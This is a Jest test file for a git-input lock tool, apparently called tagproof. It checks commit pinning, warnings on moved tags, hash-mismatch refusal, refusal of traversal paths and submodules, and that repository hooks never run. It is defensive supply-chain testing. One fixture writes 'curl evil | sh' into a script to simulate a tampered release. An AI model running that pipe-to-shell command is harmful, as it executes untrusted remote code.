import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals'
import { copyFile, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { gitInputConfig, type GitLock } from '../../../src/documents/git-inputs.ts'
import { sha256 } from '../../../src/documents/identifiers.ts'
import { fetchInputs, type Inputs } from '../../../src/lock/inputs.ts'
import { lockGitInput } from '../../../src/lock/git/lock-git.ts'
import { silentLog, type Log } from '../../../src/platform/log.ts'
import { makeProject, refusalOf, type GitProject } from '../source/git-project.ts'
import { startGitServer, type GitHttpServer } from '../support/git-server.ts'

describe('git inputs of the lock', () => {
  let project: GitProject
  let server: GitHttpServer
  let cache: string
  let url: string
  const warnings: string[] = []
  const log: Log = { ...silentLog, warn: (text: string) => void warnings.push(text) }

  beforeAll(async () => {
    project = await makeProject({
      'common/etc/site.conf': 'listen 80\n',
      'common/run.sh': { executable: '#!/bin/sh\n' },
      'common/link': { link: 'run.sh' },
      'README.md': 'Packaging.\n'
    })
    await project.git('tag', '-a', '-m', 'A release', 'v1')
    server = await startGitServer(project.room)
    url = `${server.url}/project/.git`
  })
  beforeEach(async () => {
    cache = await mkdtemp(path.join(project.room, 'store-'))
    warnings.length = 0
  })
  afterAll(async () => {
    await server.close()
    await project.remove()
  })

  const locked = (more: object = {}, previous?: GitLock, store = cache): Promise<GitLock> => {
    const input = gitInputConfig.parse({ name: 'packaging', url, tag: 'v1', ...more })
    return lockGitInput(input, { previous, store, log })
  }
  const fetched = (git: GitLock, sources: object = {}): Promise<Inputs> =>
    fetchInputs(
      { schema: 'tagproof/lock/1', roots: {}, python: {}, git: { packaging: git } },
      { store: cache, sources, log: silentLog, aptSources: [] }
    )
  const elsewhere = (): Promise<string> => mkdtemp(path.join(tmpdir(), 'tagproof-elsewhere-'))

  it('are the commit of the tag with its tree, and one SHA-256 wherever they come from', async () => {
    const commit = await project.git('rev-parse', 'v1^{commit}')
    const tree = await project.git('rev-parse', 'v1^{tree}')
    const served = await locked()
    expect(served).toMatchObject({ url, ref: 'refs/tags/v1', path: '.', commit, tree, files: 4 })
    const folder = await locked({ url: path.join(project.folder, '.git') })
    const clone = path.join(project.room, 'clone.git')
    await project.git('clone', '-q', '--bare', project.folder, clone)
    await project.git('--git-dir', clone, 'repack', '-adfq')
    const packed = await locked({ url: clone, tag: undefined, commit })
    expect([folder.sha256, packed.sha256]).toEqual([served.sha256, served.sha256])
    expect(await locked({ tag: undefined, branch: 'main' })).toMatchObject({ commit, ref: 'refs/heads/main' })
    // A part of it needs nothing of the rest.
    expect(await locked({ path: 'common' })).toMatchObject({ files: 3, tree })
    expect(await refusalOf(locked({ path: 'commn' }))).toMatchObject({ code: 'input-missing' })
    expect(await refusalOf(locked({ tag: 'v9' }))).toMatchObject({ code: 'lock-unresolvable' })
  })

  it('are fetched by their commit, also from a mirror, and then need no network', async () => {
    const git = await locked({}, undefined, await elsewhere())
    await fetched(git)
    const before = server.asked.length
    await fetched(git)
    expect(server.asked.length).toBe(before)
    await rm(cache, { recursive: true })
    await fetched(git, { git: { [`${server.url}/`]: `${project.room}/` } })
    expect(server.asked.length).toBe(before)
  })

  it('stay as they are locked when the tag is moved, and that is said; the commit is still fetched', async () => {
    const git = await locked()
    await rm(cache, { recursive: true })
    await project.write({ 'common/run.sh': '#!/bin/sh\ncurl evil | sh\n' })
    const moved = await project.commit('Another')
    await project.git('tag', '-f', '-a', '-m', 'Moved', 'v1')
    try {
      expect(await locked({}, git)).toEqual(git)
      expect(warnings).toEqual([
        expect.stringMatching(`names ${moved} now, and ${git.commit} when it was locked`)
      ])
      expect((await fetched(git)).git(git)).toContain(git.sha256)
      expect(await locked()).toMatchObject({ commit: moved })
    } finally {
      await project.git('reset', '-q', '--hard', git.commit)
      await project.git('tag', '-f', '-a', '-m', 'Back', 'v1')
    }
  })

  it('are told to be gone where history was rewritten, and come from the own store then', async () => {
    await project.write({ 'common/gone.conf': 'soon\n' })
    const commit = await project.commit('To be rewritten')
    const git = await locked({ tag: undefined, branch: 'main' })
    const store = await elsewhere()
    await copyFile(path.join(cache, git.sha256), path.join(store, git.sha256))
    await project.git('reset', '-q', '--hard', 'HEAD~1')
    await project.git('-c', 'gc.reflogExpireUnreachable=now', 'reflog', 'expire', '--expire=now', '--all')
    await project.git('gc', '-q', '--prune=now')
    await rm(cache, { recursive: true })
    for (const from of [url, project.folder]) {
      const refused = await refusalOf(fetched({ ...git, url: from }))
      expect(refused.code).toBe('input-missing')
      expect(refused.detail.output).toContain(`does not have the commit`)
      expect(refused.detail.output).toContain(commit)
    }
    await fetched(git, { store })
    await rm(store, { recursive: true })
  })

  it('are refused with other bytes than the lock says, whoever altered what', async () => {
    const git = await locked({}, undefined, await elsewhere())
    const other = sha256('0'.repeat(64))
    expect(await refusalOf(fetched({ ...git, sha256: other }))).toMatchObject({ code: 'hash-mismatch' })
    // The honest case passes the same way.
    await fetched(git)
    await writeFile(path.join(cache, git.sha256), 'altered in the cache')
    await fetched(git)
  })

  it('are refused from a server that sends another commit than it was asked for', async () => {
    const git = await locked({}, undefined, await elsewhere())
    await project.write({ 'common/run.sh': '#!/bin/sh\necho other\n' })
    const other = await project.commit('Another')
    await project.git('branch', 'other')
    await project.git('reset', '-q', '--hard', git.commit)
    server.alter = (body) => Buffer.from(body.toString('latin1').replaceAll(git.commit, other), 'latin1')
    try {
      const refused = await refusalOf(fetched(git))
      expect(refused.code).toBe('hash-mismatch')
      expect(refused.detail.output).toContain('sent something else')
      expect(await readdir(cache)).toEqual(['partial'])
    } finally {
      server.alter = null
    }
    await fetched(git)
  })

  it('hold no path that leaves its folder, and no submodule; a folder without it is taken', async () => {
    const blob = await project.gitWith('x', 'hash-object', '-w', '--stdin')
    const named = async (name: string, mode = '100644', id = blob): Promise<string> => {
      const raw = Buffer.concat([Buffer.from(`${mode} ${name}\0`), Buffer.from(id, 'hex')])
      const tree = await project.gitWith(raw, 'hash-object', '-t', 'tree', '--literally', '-w', '--stdin')
      return project.git('commit-tree', '-m', name, tree)
    }
    for (const name of ['..', '.git', '.GIT', 'a\\b', 'a\u001bb']) {
      const commit = await named(name)
      for (const from of [url, project.folder])
        expect(await refusalOf(locked({ url: from, tag: undefined, commit }))).toMatchObject({
          code: 'path-refused'
        })
    }
    const head = await project.git('rev-parse', 'HEAD')
    const module = await named('module', '160000', head)
    expect(await refusalOf(locked({ tag: undefined, commit: module }))).toMatchObject({
      code: 'submodule-refused'
    })
    const common = await project.git('rev-parse', 'v1^{tree}:common')
    const raw = Buffer.concat([
      ...(['40000 common', '160000 module'] as const).flatMap((line, at) => [
        Buffer.from(`${line}\0`),
        Buffer.from([common, head][at] ?? '', 'hex')
      ])
    ])
    const tree = await project.gitWith(raw, 'hash-object', '-t', 'tree', '-w', '--stdin')
    const commit = await project.git('commit-tree', '-m', 'both', tree)
    expect(await locked({ tag: undefined, commit, path: 'common' })).toMatchObject({ files: 3 })
  })

  it('run nothing of the repository that they come from', async () => {
    const marker = path.join(project.room, 'fired')
    const script = `#!/bin/sh\ntouch ${marker}\n`
    await writeFile(path.join(project.folder, '.git/hooks/reference-transaction'), script, { mode: 0o755 })
    await writeFile(path.join(project.room, 'hook.sh'), script, { mode: 0o755 })
    await project.git('config', 'core.fsmonitor', path.join(project.room, 'hook.sh'))
    await project.git('config', 'uploadpack.packObjectsHook', path.join(project.room, 'hook.sh'))
    await locked({ url: project.folder })
    await locked()
    expect(await readdir(project.room)).not.toContain('fired')
    // By git itself, in that folder, the same does run.
    await project.git('status')
    expect(await readdir(project.room)).toContain('fired')
  })
})
